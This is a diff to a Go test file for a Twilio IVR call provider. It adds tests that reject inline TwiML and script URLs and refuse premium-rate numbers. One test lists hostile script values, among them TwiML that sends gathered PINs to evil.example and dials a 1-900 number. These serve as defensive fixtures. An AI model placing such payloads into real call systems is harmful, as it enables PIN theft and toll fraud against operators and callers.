@@ -45,7 +45,10 @@ func newProvider(t *testing.T, api, public string, mod func(*twilio.Config)) *tw
 func TestPlaceSendsWhatTwilioExpects(t *testing.T) {
 	fake := twiliotest.New(twiliotest.Options{AccountSID: sid, AuthToken: token})
 	defer fake.Close()
-	p := newProvider(t, fake.URL, "https://ivr.example/", func(c *twilio.Config) { c.MachineDetection = twilio.MachineDetectionEnable })
+	p := newProvider(t, fake.URL, "https://ivr.example/", func(c *twilio.Config) {
+		c.MachineDetection = twilio.MachineDetectionEnable
+		c.Scripts = providers.Scripts{Inline: true, URLHosts: []string{"scripts.example"}}
+	})
 
 	res, err := p.Place(context.Background(), call("user 1", "c-1", "welcome"))
 	if err != nil {
@@ -82,7 +85,7 @@ func TestPlaceSendsWhatTwilioExpects(t *testing.T) {
 }
 
 func TestPlaceClassifiesAnswers(t *testing.T) {
-	fake := twiliotest.New(twiliotest.Options{AccountSID: sid, AuthToken: token})
+	fake := twiliotest.New(twiliotest.Options{AccountSID: sid, AuthToken: token, Invalid: []string{"+14155550124"}})
 	defer fake.Close()
 	p := newProvider(t, fake.URL, "https://ivr.example", nil)
 
@@ -100,8 +103,8 @@ func TestPlaceClassifiesAnswers(t *testing.T) {
 	}
 
 	// Refusals are final, with Twilio's code and message.
-	_, err = p.Place(context.Background(), &pb.IVRCall{CallId: "c-2", UserId: "u", Phone: "12", Action: &pb.Action{IvrScript: "w"}})
-	if _, retry := providers.AsRetryable(err); err == nil || retry || !strings.Contains(err.Error(), "21205") {
+	_, err = p.Place(context.Background(), &pb.IVRCall{CallId: "c-2", UserId: "u", Phone: "+14155550124", Action: &pb.Action{IvrScript: "w"}})
+	if _, retry := providers.AsRetryable(err); err == nil || retry || !strings.Contains(err.Error(), "21211") {
 		t.Fatalf("invalid number: %v", err)
 	}
 	wrong := newProvider(t, fake.URL, "https://ivr.example", func(c *twilio.Config) { c.AuthToken = "wrong" })
@@ -242,5 +245,39 @@ func TestLoadCredentials(t *testing.T) {
 	}
 	if _, _, err := twilio.LoadCredentials("", func(string) string { return "" }); err == nil || !strings.Contains(err.Error(), twilio.EnvAuthToken) {
 		t.Fatalf("missing: %v", err)
+	}
+}
+
+// An onboarding command names its script: TwiML or a URL in its place
+// would make the operator's account play anything and dial anywhere. By
+// default only names pass; the call fails for good and nothing reaches
+// Twilio.
+func TestScriptsAreNamesByDefault(t *testing.T) {
+	fake := twiliotest.New(twiliotest.Options{AccountSID: sid, AuthToken: token})
+	defer fake.Close()
+	p := newProvider(t, fake.URL, "https://ivr.example", nil)
+	for _, script := range []string{
+		`<Response><Gather action="https://evil.example/pin"/><Dial>+19005550199</Dial></Response>`,
+		"https://evil.example/twiml.xml",
+		"http://ivr.example/twiml/welcome",
+		"",
+	} {
+		_, err := p.Place(context.Background(), call("u", "c-1", script))
+		if _, retry := providers.AsRetryable(err); err == nil || retry {
+			t.Errorf("script %q: %v, want a call failed for good", script, err)
+		}
+	}
+	// A premium-rate or shared-cost destination stored before the
+	// numbering plan refused it is not dialled either.
+	for _, number := range []string{"+19005550199", "+447011111111"} {
+		c := call("u", "c-2", "welcome")
+		c.Phone = number
+		_, err := p.Place(context.Background(), c)
+		if _, retry := providers.AsRetryable(err); err == nil || retry || strings.Contains(err.Error(), number) {
+			t.Errorf("number %s: %v, want a call failed for good that does not quote the number", number, err)
+		}
+	}
+	if calls := fake.Calls(); len(calls) != 0 {
+		t.Fatalf("Twilio was asked to place %v", calls)
 	}
 }
